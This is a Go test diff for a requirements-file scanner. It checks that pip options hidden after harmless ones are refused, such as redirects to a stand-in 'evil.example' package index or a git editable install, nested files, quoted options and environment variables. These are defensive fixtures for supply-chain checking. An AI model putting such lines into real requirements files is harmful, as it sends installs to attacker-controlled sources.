@@ -228,3 +228,38 @@ func TestParseRequirementsRefusesOtherEncodings(t *testing.T) {
 		}
 	}
 }
+
+// TestParseRequirementsEveryOptionOfALine: pip reads every option of an
+// option line (shlex-split), so an index, nested file or editable after an
+// ignored option must be refused like one at the start of the line (it was
+// skipped: "--pre --index-url URL" sent pip to another index, "--pre -r
+// other.txt" installed a file never scanned, and the scan read clean).
+func TestParseRequirementsEveryOptionOfALine(t *testing.T) {
+	for _, tc := range []struct{ line, reason string }{
+		{"--pre --index-url https://evil.example/simple", "index options"},
+		{"--pre --extra-index-url https://evil.example/simple", "index options"},
+		{"--require-hashes\t-i https://evil.example/simple", "index options"},
+		{"--only-binary :all: --find-links=https://evil.example/", "index options"},
+		{"--prefer-binary -r other.txt", "nested requirement files"},
+		{"--prefer-binary -c constraints.txt", "constraint files"},
+		{"--trusted-host example.org -e git+https://evil.example/x.git#egg=x", "editable"},
+		{"--pre --frobnicate", "unknown option"},
+		{`--pre "--index-url=https://evil.example/simple"`, "quotes"},
+		{`--pre '-i' https://evil.example/simple`, "quotes"},
+		{"--pre ${EXTRA}", "environment variables"}, // EXTRA="-r other.txt" to pip
+	} {
+		_, err := ParseRequirements("req.txt", []byte("six==1.16.0\n"+tc.line+"\n"))
+		var re *RequirementError
+		if !errors.As(err, &re) || re.Line != 2 || !strings.Contains(re.Reason, tc.reason) {
+			t.Errorf("%q: error %v, want req.txt line 2, reason containing %q", tc.line, err, tc.reason)
+		}
+	}
+	// Values of ignored options are skipped as pip skips them, whatever
+	// they look like; fields that are not options are ignored by pip too.
+	for _, line := range []string{"--only-binary :all: --pre", "--no-binary :none: --prefer-binary", "--use-feature=truststore --trusted-host h1 h2"} {
+		got, err := ParseRequirements("req.txt", []byte("six==1.16.0\n"+line+"\n"))
+		if err != nil || len(got) != 1 {
+			t.Errorf("%q: %+v, %v; want six only", line, got, err)
+		}
+	}
+}
